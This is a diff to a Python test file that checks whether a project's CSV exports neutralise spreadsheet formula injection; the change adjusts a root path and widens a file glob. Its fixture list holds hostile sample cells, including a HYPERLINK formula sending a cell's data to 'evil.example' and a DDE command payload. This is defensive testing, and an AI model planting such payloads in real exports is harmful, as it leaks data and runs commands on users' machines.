@@ -19,7 +19,7 @@ from fusion.reports.audit_report import audit_csv
 from fusion.reports.exports import FORMULA_TRIGGERS, neutralise_cell, neutralise_formulas, safe_csv
 from fusion.service.facade import RiskService
 
-ROOT = Path(__file__).resolve().parents[2]
+ROOT = Path(__file__).resolve().parents[3]
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
     "+cmd|' /C calc'!A0",
@@ -165,7 +165,7 @@ CSV_WRITE_ALLOWED = {
 
 def test_every_csv_export_goes_through_the_neutraliser() -> None:
     offenders = []
-    for path in sorted([*ROOT.glob("fusion/*.py"), *ROOT.glob("dashboard/**/*.py")]):
+    for path in sorted([*ROOT.glob("fusion/**/*.py"), *ROOT.glob("dashboard/**/*.py")]):
         relative = path.relative_to(ROOT).as_posix()
         if relative in CSV_WRITE_ALLOWED:
             continue
